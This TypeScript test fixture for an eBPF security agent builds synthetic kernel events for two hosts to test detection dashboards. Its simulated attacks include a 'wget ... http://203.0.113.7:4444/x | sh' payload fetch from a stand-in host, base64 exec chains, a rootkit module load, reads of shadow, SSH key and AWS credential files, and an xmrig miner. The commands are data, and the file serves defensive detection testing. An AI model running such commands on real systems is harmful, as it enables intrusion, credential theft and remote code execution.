// A security story on two hosts, made of raw ring records (the ABI encoder) that go through ebpipe's own
// stages (RecordDecoder, ProcessEnricher over a fake /proc, a cgroup tree with real inodes, a passwd file
// and a pod table) and come out as otel_logs rows, for tests of what the Grafana dashboards show:
//   web-1: alice logs in over ssh, fetches a page, becomes root with sudo, reads /etc/shadow (killed by a
//          policy), edits /etc/hosts, loads a module, reads ssh keys and cloud credentials; an nginx container
//          is exploited (a shell, wget to a strange port, a setuid(0)); a Kubernetes pod talks to its
//          database; three records of CPU 1 never reach user space (a sequence gap).
//   web-2: runs ls, as it did two hours earlier, and a miner it never ran before.
// Times are seconds from SCENARIO_START_MS; the dashboards' range in the tests is the hour after it.
import { mkdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { resourceFromAttributes } from '@opentelemetry/resources';
import { CgroupDirectory } from '../containers/cgroup-directory.js';
import type { PodMetadataSource } from '../containers/pod-metadata.js';
import { RecordDecoder } from '../events/decode.js';
import {
  encodeCredChange,
  encodeExec,
  encodeFileOpen,
  encodeFileRename,
  encodeModule,
  encodePolicy,
  encodeSock,
  frameBatch,
} from '../events/encode.js';
import {
  CredFlags,
  Op,
  PolicyAction,
  PolicyHook,
  PolicyMechanism,
  Syscall,
  type CredIds,
} from '../events/generated/abi.js';
import type { Event } from '../events/model.js';
import type { PolicyAuditEvent } from '../events/policy-events.js';
import type { PodRef, ProcessRef } from '../events/references.js';
import { logRowOf } from '../exporters/clickhouse/log-row.js';
import type { OtelLogRow } from '../store/log-row.js';
import { EventRecordMapper } from '../exporters/otel/event-record.js';
import { agentResource } from '../exporters/otel/resource.js';
import { ProcessEnricher } from '../processors/enrich/process-enricher.js';
import { UserNames } from '../processes/user-names.js';
import { FakeProc } from './fake-proc.js';

/** 2026-03-02T09:00:00Z: the start of the dashboards' time range in the tests. */
export const SCENARIO_START_MS = Date.UTC(2026, 2, 2, 9, 0, 0);
export const SCENARIO_END_MS = SCENARIO_START_MS + 3_600_000;

/** Boot clock at SCENARIO_START_MS: the hosts booted 10000 s before it. */
const BOOT_S = 10_000;
const CLOCK_OFFSET_NS = BigInt(SCENARIO_START_MS) * 1_000_000n - BigInt(BOOT_S) * 1_000_000_000n;

export const DOCKER_CONTAINER = 'a1'.repeat(32);
export const POD_CONTAINER = 'b2'.repeat(32);
export const POD_UID = '5e2c1a9d-7f3b-4c8e-9a6d-0b1c2d3e4f50';
export const POD: PodRef = {
  uid: POD_UID,
  name: 'shop-api-5f7d9-x2x4z',
  namespace: 'shop',
  labels: { app: 'shop-api' },
  containerName: 'api',
  workload: { kind: 'Deployment', name: 'shop-api' },
};

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
  'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
  'alice:x:1000:1000::/home/alice:/bin/bash',
  'bob:x:1001:1001::/home/bob:/bin/bash',
].join('\n');

const ip = (text: string): Buffer => Buffer.from(text.split('.').map(Number));

interface Proc {
  pid: number;
  startNs: number;
}

interface ExecOptions {
  /** The file executed; default argv[0]. */
  binary?: string;
  uid?: number;
  /** Effective uid, for setuid binaries; default uid. */
  euid?: number;
  cgroupId?: number;
  cwd?: string;
}

interface Endpoint {
  address: string;
  port: number;
}

function ids(uid: number): CredIds {
  return {
    uid,
    euid: uid,
    suid: uid,
    fsuid: uid,
    gid: uid,
    egid: uid,
    sgid: uid,
    fsgid: uid,
    capEffective: uid === 0 ? 0x1ffffffffffn : 0n,
    capPermitted: uid === 0 ? 0x1ffffffffffn : 0n,
    capInheritable: 0n,
    capAmbient: 0n,
    ngroups: 1,
  };
}

/** The records of one host, in time order, with per-CPU sequence numbers. */
class HostRecorder {
  readonly records: Buffer[] = [];
  private readonly seq = [0, 0];
  private readonly procs = new Map<number, Proc>();
  private readonly comms = new Map<number, string>();

  constructor(readonly host: string) {}

  private header(t: number, pid: number, cpu: number) {
    const p = this.procs.get(pid);
    if (!p) throw new Error(`scenario ${this.host}: pid ${pid} has not run`);
    const ktime = Math.round((BOOT_S + t) * 1e9);
    return {
      ktime,
      cpu,
      seq: this.seq[cpu]!++,
      task: { tgid: pid, pid, startNs: p.startNs },
      comm: this.comms.get(pid) ?? '',
    };
  }

  /** Records the kernel wrote on `cpu` but that never reached user space. */
  lose(cpu: number, count: number): void {
    this.seq[cpu]! += count;
  }

  /** A process older than the agent, as /proc shows it. */
  existing(pid: number, startS: number): void {
    this.procs.set(pid, { pid, startNs: Math.round(startS * 1e9) });
  }

  exec(t: number, pid: number, ppid: number, argv: readonly string[], o: ExecOptions = {}, cpu = 0): void {
    const parent = this.procs.get(ppid);
    if (!parent) throw new Error(`scenario ${this.host}: parent ${ppid} of ${pid} has not run`);
    const startNs = Math.round((BOOT_S + t) * 1e9) - 1000;
    this.procs.set(pid, { pid, startNs });
    const binary = o.binary ?? argv[0]!;
    this.comms.set(pid, binary.slice(binary.lastIndexOf('/') + 1).slice(0, 15));
    const uid = o.uid ?? 0;
    const euid = o.euid ?? uid;
    this.records.push(
      encodeExec({
        ...this.header(t, pid, cpu),
        parent: { tgid: ppid, pid: ppid, startNs: parent.startNs },
        creds: { uid, gid: uid, euid, egid: uid, capEffective: 0n, capPermitted: 0n },
        ns: { mnt: 4026531841, pid: 4026531836, net: 4026531840, uts: 1, ipc: 2, user: 3, cgroup: 4 },
        cgroupId: o.cgroupId ?? 1,
        flags: 0,
        filename: binary,
        argv,
        cwd: o.cwd ?? '/',
      }),
    );
  }

  open(t: number, pid: number, path: string, flags: number, result = 3, cpu = 0): void {
    this.records.push(
      encodeFileOpen({
        ...this.header(t, pid, cpu),
        syscall: Syscall.SYS_OPENAT,
        result,
        openFlags: flags,
        mode: flags & 0o100 ? 0o600 : 0,
        resolve: 0,
        dev: 2049,
        ino: result >= 0 ? 100_000 + this.records.length : 0,
        dirfd: -100,
        flags: 0,
        path,
      }),
    );
  }

  rename(t: number, pid: number, oldPath: string, newPath: string, cpu = 0): void {
    this.records.push(
      encodeFileRename({
        ...this.header(t, pid, cpu),
        syscall: Syscall.SYS_RENAME,
        result: 0,
        oldDirfd: -100,
        newDirfd: -100,
        renameFlags: 0,
        flags: 0,
        oldPath,
        newPath,
      }),
    );
  }

  socket(op: number, t: number, pid: number, local: Endpoint, remote?: Endpoint, cpu = 0): void {
    const syscall = {
      [Op.NET_CONNECT]: Syscall.SYS_CONNECT,
      [Op.NET_ACCEPT]: Syscall.SYS_ACCEPT4,
      [Op.NET_LISTEN]: Syscall.SYS_LISTEN,
    }[op];
    if (syscall === undefined) throw new Error(`scenario: op ${op} is not a socket call of the scenario`);
    this.records.push(
      encodeSock(op, {
        ...this.header(t, pid, cpu),
        syscall,
        result: op === Op.NET_ACCEPT ? 7 : 0,
        family: 2,
        protocol: 6,
        localPort: local.port,
        remotePort: remote?.port ?? 0,
        localAddr: ip(local.address),
        remoteAddr: ip(remote?.address ?? '0.0.0.0'),
        backlog: op === Op.NET_LISTEN ? 511 : 0,
        oldState: 0,
        flags: 0,
        bytesAcked: 0,
        bytesReceived: 0,
      }),
    );
  }

  /** A set*uid call from `fromUid` to root: a privilege raise. */
  becomeRoot(t: number, pid: number, syscall: number, fromUid: number, cpu = 0): void {
    this.records.push(
      encodeCredChange({
        ...this.header(t, pid, cpu),
        syscall,
        result: 0,
        args: syscall === Syscall.SYS_SETUID ? [0] : [0, 0, 0],
        flags: CredFlags.CRED_UID_TO_ROOT,
        before: ids(fromUid),
        after: { ...ids(fromUid), uid: 0, euid: 0, suid: 0, fsuid: 0 },
        groups: [fromUid],
      }),
    );
  }

  loadModule(t: number, pid: number, name: string, path: string, cpu = 0): void {
    this.records.push(
      encodeModule(Op.MODULE_LOAD, {
        ...this.header(t, pid, cpu),
        syscall: Syscall.SYS_FINIT_MODULE,
        result: 0,
        fd: 3,
        syscallFlags: 0,
        flags: 1,
        name,
        path,
        args: '',
      }),
    );
  }

  policyMatch(
    t: number,
    pid: number,
    policy: string,
    actions: number,
    target: { path: string } | { local: Endpoint; remote: Endpoint },
    uid: number,
    cpu = 0,
  ): void {
    const file = 'path' in target;
    this.records.push(
      encodePolicy({
        ...this.header(t, pid, cpu),
        syscall: file ? Syscall.SYS_OPENAT : Syscall.SYS_CONNECT,
        result: file ? 3 : 0,
        creds: { uid, gid: uid, euid: uid, egid: uid, capEffective: 0n, capPermitted: 0n },
        policyId: file ? 1 : 2,
        ruleIndex: 0,
        selector: 0,
        hook: file ? PolicyHook.HOOK_FILE_OPEN : PolicyHook.HOOK_TCP_CONNECT,
        mechanism: PolicyMechanism.MECH_SYSCALL_EXIT,
        actions,
        signal: actions & PolicyAction.ACTION_SIGKILL ? 9 : 0,
        signalResult: 0,
        error: 0,
        openFlags: 0,
        dev: file ? 2049 : 0,
        ino: file ? 131_075 : 0,
        suppressed: 0,
        family: file ? 0 : 2,
        sport: file ? 0 : target.local.port,
        dport: file ? 0 : target.remote.port,
        saddr: Buffer.concat([file ? Buffer.alloc(4) : ip(target.local.address), Buffer.alloc(12)]),
        daddr: Buffer.concat([file ? Buffer.alloc(4) : ip(target.remote.address), Buffer.alloc(12)]),
        flags: 0,
        policy,
        path: file ? target.path : '',
      }),
    );
  }
}

const O_RDONLY = 0;
const O_WRONLY_CREAT_TRUNC = 0o1101;
const KILL = PolicyAction.ACTION_POST | PolicyAction.ACTION_SIGKILL;

/** A command line long enough to stand out: 40 lines of a script passed with -c. */
export const LONG_SCRIPT = Array.from({ length: 40 }, (_, i) => `exec(base64.b64decode(payload[${i}]))`).join(';');

function web1(cgroups: { docker: number; pod: number }): HostRecorder {
  const h = new HostRecorder('web-1');
  h.existing(1, 1);
  h.exec(-7200, 150, 1, ['/usr/bin/curl', '-sI', 'https://deb.debian.org'], { uid: 1000 });
  h.exec(-7100, 151, 1, ['/usr/sbin/cron', '-f']);
  h.exec(60, 200, 1, ['/usr/sbin/sshd', '-D']);
  h.socket(Op.NET_LISTEN, 61, 200, { address: '0.0.0.0', port: 22 });
  h.exec(120, 201, 200, ['-bash'], { binary: '/bin/bash', uid: 1000, cwd: '/home/alice' });
  h.exec(130, 202, 201, ['/usr/bin/curl', '-s', 'https://example.com'], { uid: 1000 });
  h.socket(Op.NET_CONNECT, 131, 202, { address: '10.0.0.5', port: 40112 }, { address: '93.184.216.34', port: 443 });
  h.socket(Op.NET_CONNECT, 132, 202, { address: '10.0.0.5', port: 40114 }, { address: '93.184.216.34', port: 443 });
  h.exec(140, 203, 201, ['/usr/bin/sudo', '-i'], { uid: 1000, euid: 0 });
  h.becomeRoot(141, 203, Syscall.SYS_SETRESUID, 1000);
  h.exec(150, 204, 203, ['/bin/bash'], { cwd: '/root' });
  h.exec(160, 205, 204, ['/usr/bin/cat', '/etc/shadow']);
  h.open(160.5, 205, '/etc/shadow', O_RDONLY);
  h.policyMatch(160.6, 205, 'block-secret-access', KILL, { path: '/etc/shadow' }, 0);
  h.exec(170, 206, 204, ['/usr/bin/vi', '/etc/hosts']);
  h.open(171, 206, '/etc/hosts', O_RDONLY);
  h.open(175, 206, '/etc/.hosts.swp', O_WRONLY_CREAT_TRUNC, 4, 1);
  h.rename(176, 206, '/etc/.hosts.swp', '/etc/hosts', 1);
  h.exec(180, 207, 204, ['/usr/sbin/insmod', '/tmp/rootkit.ko']);
  h.loadModule(181, 207, 'rootkit', '/tmp/rootkit.ko');
  h.exec(190, 208, 201, ['/usr/bin/python3', '-c', LONG_SCRIPT], { uid: 1000 }, 1);
  h.exec(200, 209, 201, ['/usr/bin/passwd'], { uid: 1000, euid: 0 }, 1);
  h.exec(210, 210, 201, ['/usr/bin/cat', '/home/alice/.ssh/id_ed25519'], { uid: 1000 }, 1);
  h.open(210.5, 210, '/home/alice/.ssh/id_ed25519', O_RDONLY, 3, 1);
  h.lose(1, 3);
  h.exec(215, 211, 201, ['/usr/bin/cat', '/home/bob/.aws/credentials'], { uid: 1000 }, 1);
  h.open(215.5, 211, '/home/bob/.aws/credentials', O_RDONLY, -13, 1);
  // The nginx container: exploited through a shell that fetches a payload and makes itself root.
  const docker = { cgroupId: cgroups.docker };
  h.exec(300, 300, 1, ['/usr/sbin/nginx', '-g', 'daemon off;'], docker);
  h.socket(Op.NET_LISTEN, 301, 300, { address: '0.0.0.0', port: 80 });
  h.socket(Op.NET_ACCEPT, 310, 300, { address: '172.17.0.2', port: 80 }, { address: '10.0.0.9', port: 51000 });
  h.exec(320, 301, 300, ['/bin/sh', '-c', 'wget -q -O- http://203.0.113.7:4444/x | sh'], { ...docker, uid: 33 });
  h.exec(321, 302, 301, ['/usr/bin/wget', '-q', '-O-', 'http://203.0.113.7:4444/x'], { ...docker, uid: 33 });
  const c2 = { local: { address: '172.17.0.2', port: 38000 }, remote: { address: '203.0.113.7', port: 4444 } };
  h.socket(Op.NET_CONNECT, 322, 302, c2.local, c2.remote);
  h.policyMatch(322.5, 302, 'outbound-connections', PolicyAction.ACTION_POST, c2, 33);
  h.exec(330, 303, 301, ['/tmp/x'], { ...docker, uid: 33 });
  h.becomeRoot(331, 303, Syscall.SYS_SETUID, 33);
  // A Kubernetes pod and its database.
  const pod = { cgroupId: cgroups.pod, uid: 1001 };
  h.exec(400, 400, 1, ['/usr/local/bin/api', '--listen=:8080'], pod);
  h.socket(Op.NET_LISTEN, 401, 400, { address: '0.0.0.0', port: 8080 });
  for (const [i, port] of [41000, 41002, 41004].entries()) {
    h.socket(Op.NET_CONNECT, 410 + i, 400, { address: '10.244.0.5', port }, { address: '10.96.0.10', port: 5432 });
  }
  // Later, root tries again with another reader and is killed again.
  h.exec(1800, 212, 204, ['/usr/bin/less', '/etc/shadow']);
  h.open(1800.5, 212, '/etc/shadow', O_RDONLY);
  h.policyMatch(1800.6, 212, 'block-secret-access', KILL, { path: '/etc/shadow' }, 0);
  return h;
}

function web2(): HostRecorder {
  const h = new HostRecorder('web-2');
  h.existing(1, 1);
  h.exec(-7000, 150, 1, ['/usr/bin/ls', '/var/log']);
  h.exec(100, 500, 1, ['/usr/bin/ls', '-la', '/srv']);
  h.exec(200, 501, 1, ['/usr/local/bin/xmrig', '--donate-level', '1'], { uid: 65534 });
  h.socket(Op.NET_CONNECT, 201, 501, { address: '10.0.1.7', port: 50500 }, { address: '198.51.100.23', port: 3333 });
  return h;
}

/** The user-space events of web-1's policy engine: audit trail and in-kernel aggregation counts. */
function policyEngineEvents(): Event[] {
  const origin = (t: number) => ({
    ktime: Math.round((BOOT_S + t) * 1e9),
    cpu: 0,
    seq: 0,
    clockOffsetNs: CLOCK_OFFSET_NS,
  });
  const agent: ProcessRef = { pid: 990, tid: 990, startNs: 0, comm: '', uid: 0, user: 'root' };
  const file = (name: string) => `/etc/ebpipe/policies/${name}.yaml`;
  const sha = (n: number) => String(n).repeat(64).slice(0, 64);
  const audit = (t: number, change: Omit<PolicyAuditEvent, 'kind' | 'origin' | 'process'>, pid = 990) =>
    ({ kind: 'policy.audit', origin: origin(t), process: { ...agent, pid, tid: pid }, ...change }) as const;
  return [
    audit(30, {
      action: 'add',
      result: 'applied',
      policy: 'block-secret-access',
      file: file('block-secret-access'),
      sha256: sha(1),
      via: 'startup',
    }),
    audit(31, {
      action: 'add',
      result: 'applied',
      policy: 'outbound-connections',
      file: file('outbound-connections'),
      sha256: sha(2),
      via: 'startup',
    }),
    {
      kind: 'policy.summary',
      origin: origin(500),
      process: { pid: 0, tid: 0, startNs: 0, comm: '', binary: '/usr/bin/vi' },
      policy: 'etc-writes',
      ruleIndex: 0,
      selector: 0,
      key: { binary: '/usr/bin/vi', pathPrefix: '/etc/' },
      count: 5,
      firstKtime: Math.round((BOOT_S + 170) * 1e9),
      lastKtime: Math.round((BOOT_S + 176) * 1e9),
      windowMs: 60_000,
    },
    audit(
      2000,
      {
        action: 'replace',
        result: 'applied',
        policy: 'outbound-connections',
        file: file('outbound-connections'),
        sha256: sha(3),
        via: 'cli',
      },
      5001,
    ),
    audit(2100, {
      action: 'add',
      result: 'rejected',
      policy: 'bad-policy',
      file: file('bad-policy'),
      sha256: sha(4),
      via: 'watch',
      reason: 'spec.kprobes[0].call: unknown hook',
    }),
  ];
}

/** A cgroup directory whose inode is the id the kernel would report for it. */
function cgroupDir(mount: string, path: string): number {
  const dir = join(mount, path);
  mkdirSync(dir, { recursive: true });
  return statSync(dir).ino;
}

const podSource: PodMetadataSource = {
  version: 1,
  lookup: (containerId, podUid) => (containerId === POD_CONTAINER || podUid === POD_UID ? POD : undefined),
};

function bootIdOf(host: string): string {
  return host === 'web-1' ? '6a2c8f0e-3b1d-4e5f-9a7b-0c1d2e3f4a5b' : '0f1e2d3c-4b5a-4978-8796-a5b4c3d2e1f0';
}

export interface SecurityScenario {
  rows: OtelLogRow[];
  /** The raw ring records of web-1 (its kernel records), in order. */
  web1Records: readonly Buffer[];
  /** Realtime minus boot time of both hosts. */
  clockOffsetNs: bigint;
  /** Exec ids by `host/pid`, as the enricher gave them. */
  execIds: ReadonlyMap<string, string>;
}

function enrichedEvents(host: HostRecorder, workDir: string, cgroupMount: string): Event[] {
  const proc = new FakeProc();
  try {
    proc.add({
      pid: 1,
      ppid: 0,
      comm: 'systemd',
      startTicks: 100,
      binary: '/usr/lib/systemd/systemd',
      argv: ['/sbin/init'],
    });
    const passwd = join(workDir, 'passwd');
    writeFileSync(passwd, `${PASSWD}\n`);
    const enricher = new ProcessEnricher({
      host: `${host.host}:${bootIdOf(host.host).replaceAll('-', '').slice(0, 16)}`,
      procRoot: proc.root,
      cgroups: new CgroupDirectory({ procRoot: proc.root, mountPoint: cgroupMount, hybrid: false }),
      users: new UserNames({ path: passwd }),
      pods: podSource,
    });
    enricher.seedFromProc();
    const decoder = new RecordDecoder(CLOCK_OFFSET_NS);
    decoder.bootId = bootIdOf(host.host);
    const events: Event[] = [];
    decoder.decodeBatch(frameBatch(host.records), events);
    if (events.length !== host.records.length) throw new Error(`scenario ${host.host}: a record did not decode`);
    enricher.enrichBatch(events);
    return events;
  } finally {
    proc.dispose();
  }
}

function rowsOf(host: string, events: readonly Event[]): OtelLogRow[] {
  const base = agentResource({ 'host.name': host, 'host.id': bootIdOf(host).replaceAll('-', '') });
  // One run of the agent per host: its own instance id.
  const resource = resourceFromAttributes({ ...base.attributes, 'service.instance.id': `instance-${host}` });
  const mapper = new EventRecordMapper(resource);
  return events.map((e) => logRowOf(mapper.toRecord(e)));
}

/** Builds the scenario; `workDir` gets the passwd file and the cgroup tree. */
export function securityScenario(workDir: string): SecurityScenario {
  const mount = join(workDir, 'cgroup');
  const cgroups = {
    docker: cgroupDir(mount, `system.slice/docker-${DOCKER_CONTAINER}.scope`),
    pod: cgroupDir(
      mount,
      `kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${POD_UID.replaceAll('-', '_')}.slice/cri-containerd-${POD_CONTAINER}.scope`,
    ),
  };
  const hosts = [web1(cgroups), web2()];
  const execIds = new Map<string, string>();
  const rows: OtelLogRow[] = [];
  for (const host of hosts) {
    const events = enrichedEvents(host, workDir, mount);
    for (const e of events) {
      if (e.kind === 'process.exec' && e.process.execId) execIds.set(`${host.host}/${e.process.pid}`, e.process.execId);
    }
    if (host.host === 'web-1') events.push(...policyEngineEvents());
    rows.push(...rowsOf(host.host, events));
  }
  return { rows, web1Records: hosts[0]!.records, clockOffsetNs: CLOCK_OFFSET_NS, execIds };
}
